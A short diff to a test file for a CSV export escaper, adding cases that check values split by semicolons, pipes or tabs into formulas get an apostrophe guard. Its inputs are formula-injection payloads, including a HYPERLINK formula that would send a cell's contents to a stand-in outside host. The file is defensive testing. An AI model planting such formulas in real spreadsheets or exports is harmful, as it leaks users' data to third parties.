@@ -97,7 +97,6 @@ describe('filledCsv', () => {
 
   const formulas = [
     '=HYPERLINK("http://example.com?x="&A1,"click")',
-    '\t=1',
     '\u00a0=1',
     '＝1',
     '\ttab',
@@ -110,7 +109,17 @@ describe('filledCsv', () => {
     });
   }
 
-  for (const text of ["'", "'a", 'a=1', 'a-b', '1-2', '', '…=']) {
+  for (const [text, guarded] of [
+    ['\t=1', "'\t'=1"],
+    ['a;=1+1;b', "a;'=1+1;b"],
+    ['a|\'-1,"@x', "a|''-1,'\"@x"],
+  ] as const) {
+    it(`guards a code that another separator splits into a formula: ${JSON.stringify(text)}`, () => {
+      assert.equal(codeInCsv(text), guarded);
+    });
+  }
+
+  for (const text of ["'", "'a", 'a; b, c', 'a=1', 'a-b', '1-2', '', '…=']) {
     it(`adds no guard to a code that needs none: ${JSON.stringify(text)}`, () => {
       assert.equal(codeInCsv(text), text);
     });
